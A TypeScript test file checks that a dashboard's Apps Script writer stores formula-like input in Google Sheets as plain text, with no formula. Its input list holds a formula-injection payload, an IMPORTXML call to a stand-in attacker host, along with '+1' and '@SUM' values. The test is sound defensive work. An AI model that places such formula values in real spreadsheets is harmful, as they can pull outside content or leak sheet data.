/**
 * Hostile text in the dashboard's inputs, through the shared Apps Script writer into the
 * fake Sheets: it lands as text (no formula, no number), and only its own month errs.
 */
import { writeLayout } from '../../src/gas/writeLayout';
import { buildDashboard, inputA1, kpiA1, sampleDashboard } from '../../src/layout/dashboard';
import { createFakeAppsScript } from '../../src/preview/fake';

test('formula-like figures stay text in Sheets', () => {
  const hostile = ['=IMPORTXML("http://evil.example/","//a")', '+1', '@SUM(1)', "'quoted"];
  const figures = sampleDashboard.figures
    ?.slice(0, 5)
    .map((month, index) => (index < hostile.length ? { ...month, leads: hostile[index] } : month));
  const { layout, map } = buildDashboard({ ...sampleDashboard, figures });
  const fake = createFakeAppsScript();
  (globalThis as Record<string, unknown>).SpreadsheetApp = fake.SpreadsheetApp;
  try {
    const { sheet } = writeLayout(fake.SpreadsheetApp.getActiveSpreadsheet(), layout);
    const range = (month: number) => sheet.getRange(inputA1(map, 'leads', month));
    expect(hostile.map((_, month) => range(month).getValue())).toEqual(hostile);
    expect(hostile.map((_, month) => range(month).getFormula())).toEqual(hostile.map(() => ''));
    expect(String(sheet.getRange(kpiA1(map, 'cpl', 0)).getValue())).toMatch(/^#/);
    expect(sheet.getRange(kpiA1(map, 'cpl', 4)).getValue()).toBeCloseTo(47000 / 1220, 9);
  } finally {
    delete (globalThis as Record<string, unknown>).SpreadsheetApp;
  }
});
